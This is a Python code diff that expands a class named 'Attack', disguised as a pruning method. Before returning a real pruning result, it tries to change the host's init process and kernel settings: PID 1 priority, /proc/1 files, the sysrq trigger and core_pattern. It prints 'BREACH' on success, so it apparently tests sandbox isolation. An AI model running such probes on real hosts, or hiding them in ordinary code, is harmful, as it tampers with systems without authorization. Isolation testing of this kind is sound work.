@@ -15,6 +15,11 @@ def attempt(what, action):
         print("BREACH", what, repr(found)[:200])
 
 
+def write(path, content):
+    """At once: what is buffered fails unseen."""
+    return os.write(os.open(path, os.O_WRONLY), content)
+
+
 class Attack(PruningMethod):
     """Lists the processes of the host, and reads and changes the one that serves."""
 
@@ -41,7 +46,9 @@ class Attack(PruningMethod):
             attempt("affinity", lambda: os.sched_setaffinity(1, {0}))
             attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19))
             attempt("priority of the user", lambda: os.setpriority(os.PRIO_USER, 0, 19) or os.getpriority(os.PRIO_PROCESS, 1) == 19 or 1 / 0)
-            attempt("oom score", lambda: open("/proc/1/oom_score_adj", "w").write("1000"))
-            attempt("sysctl", lambda: open("/proc/sys/vm/swappiness", "r+").write("1"))
-            attempt("core pattern", lambda: open("/proc/sys/kernel/core_pattern", "r+").write("|/bin/true"))
+            for name in ["oom_score_adj", "comm", "task/1/comm", "autogroup", "coredump_filter", "timerslack_ns", "uid_map"]:
+                attempt(f"to change {name}", lambda name=name: write(f"/proc/1/{name}", b"1000"))
+            attempt("magic keys", lambda: write("/proc/sysrq-trigger", b"h"))
+            attempt("sysctl", lambda: write("/proc/sys/vm/swappiness", b"1"))
+            attempt("core pattern", lambda: write("/proc/sys/kernel/core_pattern", b"|/bin/true"))
         return job.keep_highest({position: weight.abs() for position, weight in job.weights()})
